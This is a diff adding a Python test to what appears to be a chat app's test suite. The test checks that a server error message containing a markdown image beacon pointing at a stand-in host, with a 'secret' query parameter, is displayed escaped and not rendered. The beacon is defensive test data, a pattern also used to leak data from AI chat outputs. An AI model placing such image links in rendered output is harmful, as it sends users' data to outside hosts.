@@ -310,3 +310,18 @@ def test_a_reply_whose_process_died_shows_as_interrupted_with_retry(
     assert store.all_messages("local", conv.id)[-1].status == "interrupted"
     retry_button(at).click().run()
     assert bubbles(at)[1] == ("assistant", "Echo: tell me a story")
+
+
+def test_a_servers_error_text_is_shown_as_typed(
+    app: Callable[..., AppTest], openai_server: FakeOpenAI
+) -> None:
+    """An error body can quote anything (a model name someone typed, a proxy's page): it
+    must not draw an image that would make the browser fetch a beacon."""
+    at = app()
+    at.run()
+    beacon = "![x](http://beacon.test/e.gif?q=secret)"
+    openai_server.fail(400, message=f"Unknown model {beacon}", route="chat/completions")
+    send(at, "Will this work?")
+    shown = [e.value for e in at.error]
+    assert any("Unknown model" in text for text in shown), shown
+    assert all("![" not in text for text in shown), shown  # escaped: "!\[" draws as text
